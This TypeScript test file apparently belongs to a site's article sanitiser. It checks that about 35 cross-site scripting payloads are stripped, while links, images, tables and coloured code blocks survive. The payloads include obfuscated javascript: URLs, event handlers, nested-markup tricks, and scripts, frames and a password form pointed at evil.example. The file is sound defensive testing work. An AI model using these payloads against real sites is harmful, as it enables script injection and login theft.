import fc from 'fast-check';
import type { Element, Root } from 'hast';
import { toString as textOf } from 'hast-util-to-string';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { ArticleBody, CopyCode } from './article-body';
import { parseArticleText } from './article-text';

const ATTACKS = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a broken image': '<img src=x onerror=alert(1)>',
  'a broken image with slashes for spaces': '<img/src="x"/onerror=alert(1)>',
  'a loading picture': '<svg onload=alert(1)><circle r=1 /></svg>',
  'a script in a picture': '<svg><script>alert(1)</script></svg>',
  'an animated link': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'a script address': '<a href="javascript:alert(1)">x</a>',
  'a script address in capitals': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'a script address with a tab in it': '<a href="java\tscript:alert(1)">x</a>',
  'a script address with a line break in it': '<a href="java&#10;script:alert(1)">x</a>',
  'a script address behind a control sign': '<a href="&#1;javascript:alert(1)">x</a>',
  'a script address in entities': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  'a Visual Basic address': '<a href="vbscript:msgbox(1)">x</a>',
  'a page in an address': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'an image of a script': '<img src="javascript:alert(1)">',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with a page of its own': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="data:text/html,x"></object>',
  'an embedded thing': '<embed src="https://evil.example/x.swf">',
  'a form that sends elsewhere': '<form action="https://evil.example"><input name=password></form>',
  'a button with its own address': '<button formaction="javascript:alert(1)">x</button>',
  'a field that takes the focus': '<input autofocus onfocus=alert(1)>',
  'a toggled detail': '<details open ontoggle=alert(1)>x</details>',
  'a style sheet': '<style>@import "https://evil.example/x.css"</style>',
  'a style': '<p style="background:url(javascript:alert(1))">x</p>',
  'a cover over the page': '<div style="position:fixed;inset:0">x</div>',
  'another base for all links': '<base href="https://evil.example/">',
  'a way to another page': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a linked style sheet': '<link rel=stylesheet href=https://evil.example/x.css>',
  'a formula that hides a script': '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a pointer that passes by': '<p onpointerover=alert(1)>x</p>',
} as const;

describe('what could run is taken out', () => {
  test.each(Object.entries(ATTACKS))('%s', async (_, html) => {
    expect(whatCouldRun(parseUnsafely(html))).not.toEqual([]);
    expect(await whatRemains(`<p>Слово</p>${html}<p>Слово</p>`)).toEqual([]);
  });

  test('also when attacks stand in each other and in half-closed markup', async () => {
    const wrappings = ['<p>', '</p>', '<table><tr><td>', '<pre><code class="language-js">', '</code></pre>'];
    const traps = ['<svg>', '</svg>', '<math>', '<style>', '</style>', '<!--', '-->', '"', "'", '<h2>'];
    const pieces = fc.constantFrom(...Object.values(ATTACKS), ...wrappings, ...traps);
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { maxLength: 8 }), async (parts) => {
        expect(await whatRemains(parts.join(''))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  test('markup that HTML does not allow cannot stop the page', async () => {
    const { tree } = await parseArticleText(
      '<p>До</p><svg><input><text>x</text></svg><math><source>y</math>',
    );
    expect(rendered(tree)).toContain('<p>До</p>');
  });

  test('scripts and style sheets are no words of the text', async () => {
    const { plain } = await parseArticleText('До<script>alert(1)</script><style>p{color:red}</style>После');
    expect(plain).toBe('ДоПосле');
  });
});

describe('what an editor needs stays', () => {
  test.each([
    '<p>Слово <strong>важное</strong> и <em>тихое</em></p>',
    '<a href="https://example.ru/a?b=1#c">ссылка</a>',
    '<a href="/services/cloud-servers">ссылка</a>',
    '<a href="mailto:help@example.ru">почта</a>',
    '<img src="https://cdn.example/a.png" alt="Схема" loading="lazy" decoding="async">',
    '<img src="/assets/a.png" alt="Схема" loading="lazy" decoding="async">',
    '<ul><li>один</li></ul>',
    '<blockquote><p>цитата</p></blockquote>',
    '<p><code>ls -la</code></p>',
  ])('%s', async (html) => {
    expect(rendered((await parseArticleText(html)).tree).replaceAll('/>', '>')).toContain(html);
  });

  test('each table is a region with a name of its own', async () => {
    const table = '<table><tbody><tr><td>1</td></tr></tbody></table>';
    const { tree } = await parseArticleText(`${table}<p>Слова</p>${table}`);
    const names = tree.children.flatMap((child) =>
      child.type === 'element' && child.tagName === 'div' ? [child.properties.ariaLabel] : [],
    );
    expect(names).toEqual(['Таблица 1', 'Таблица 2']);
  });

  test('a table scrolls inside a region that the keyboard reaches', async () => {
    const { tree } = await parseArticleText('<table><tbody><tr><td>1</td></tr></tbody></table>');
    expect(tree.children).toMatchObject([
      { properties: { role: 'region', tabIndex: 0 }, children: [{ tagName: 'table' }] },
    ]);
  });
});

describe('code', () => {
  test.each([
    ['bash', 'echo "$HOME" | grep -c user'],
    ['python', 'def f(x):\n    return x + 1'],
    ['js', 'const a = () => 1;'],
  ])('in %s is coloured for both themes, and reads as before', async (language, code) => {
    const block = await blockOf(`<pre><code class="language-${language}">${code}</code></pre>`);
    expect(coloursOf(block).length).toBeGreaterThan(1);
    expect(coloursOf(block).join()).toContain('light-dark(');
    expect(textOf(block)).toBe(code);
    expect(block.properties.dataLanguage).toBe(language);
  });

  test.each([
    ['klingon', 'class="language-klingon"'],
    ['no language', ''],
    ['a name of every object', 'class="language-constructor"'],
    ['another name of every object', 'class="language-__proto__"'],
    ['a class that is no language', 'class="important"'],
  ])('in %s stays plain and readable', async (_, attribute) => {
    const block = await blockOf(`<pre><code ${attribute}>Qapla’ if x == 1\n  y</code></pre>`);
    expect(coloursOf(block)).toEqual([]);
    expect(textOf(block)).toBe('Qapla’ if x == 1\n  y');
  });

  test('that looks like markup is shown, not run', async () => {
    const code = '<script>alert(1)</script>';
    const html = '<pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>';
    expect(textOf(await blockOf(html))).toBe(code);
    expect(await whatRemains(html)).toEqual([]);
  });
});

const RUNNING_ELEMENTS = new Set(
  'applet base button embed form frame iframe link math meta object script style svg template'.split(' '),
);
const HARMLESS_ADDRESS = /^(https?:|mailto:|tel:|#|\/|\?|[^:]*$)/i;

/** Everything in a tree that could run, fetch code, or cover the page. Colours of code are the one style allowed. */
function whatCouldRun(tree: Root): string[] {
  const found: string[] = [];
  visit(tree, (node) => {
    if (node.type === 'comment') found.push('a comment');
    if (node.type !== 'element') return;
    if (RUNNING_ELEMENTS.has(node.tagName) && !isPreloadedImage(node)) found.push(node.tagName);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || /^(srcDoc|formAction|action|autoFocus)$/i.test(name)) found.push(name);
      if (name === 'style' && !isColouring(String(value))) found.push(`style: ${value}`);
      if (/^(href|src|data|xLinkHref|poster|cite|longDesc|background)$/i.test(name)) {
        // Browsers drop control signs and spaces before they read the scheme.
        const address = [...String(value)].filter((sign) => sign > ' ').join('');
        if (!HARMLESS_ADDRESS.test(address)) found.push(`${name}: ${value}`);
      }
    }
  });
  return found;
}

/** React announces the images of a page at its head. */
function isPreloadedImage({ tagName, properties }: Element): boolean {
  return tagName === 'link' && String(properties.rel) === 'preload' && properties.as === 'image';
}

const COLOURING = [
  /^(background-)?color:(light-dark\(#\w+, #\w+\)|inherit)$/,
  /^--shiki-(light|dark)(-bg|-font-weight|-font-style)?:[#\w]+$/,
  /^font-(weight|style):[\w\s(),-]+$/,
];

function isColouring(style: string): boolean {
  return style.split(';').every((rule) => COLOURING.some((allowed) => allowed.test(rule)));
}

/** What could still run in an article: in its tree, and in the page that a browser reads. */
async function whatRemains(html: string): Promise<string[]> {
  const { tree } = await parseArticleText(html);
  return [...whatCouldRun(tree), ...whatCouldRun(parseUnsafely(rendered(tree)))];
}

function parseUnsafely(html: string): Root {
  return unified().use(rehypeParse, { fragment: true }).parse(html);
}

/** The article as the page shows it, but for the button that is ours, to the letter. */
function rendered(tree: Root): string {
  const ours = renderToStaticMarkup(createElement(CopyCode));
  return renderToStaticMarkup(createElement(ArticleBody, { tree })).replaceAll(ours, '');
}

/** The block of code of an article that is nothing else. */
async function blockOf(html: string): Promise<Element> {
  const [block] = (await parseArticleText(html)).tree.children;
  if (block?.type !== 'element' || block.tagName !== 'pre') throw new Error('There is no block of code');
  return block;
}

/** The styles that words of a block have of their own. */
function coloursOf(block: Element): string[] {
  const styles: string[] = [];
  visit(block, 'element', ({ tagName, properties }) => {
    if (tagName === 'span' && properties.style) styles.push(String(properties.style));
  });
  return styles;
}
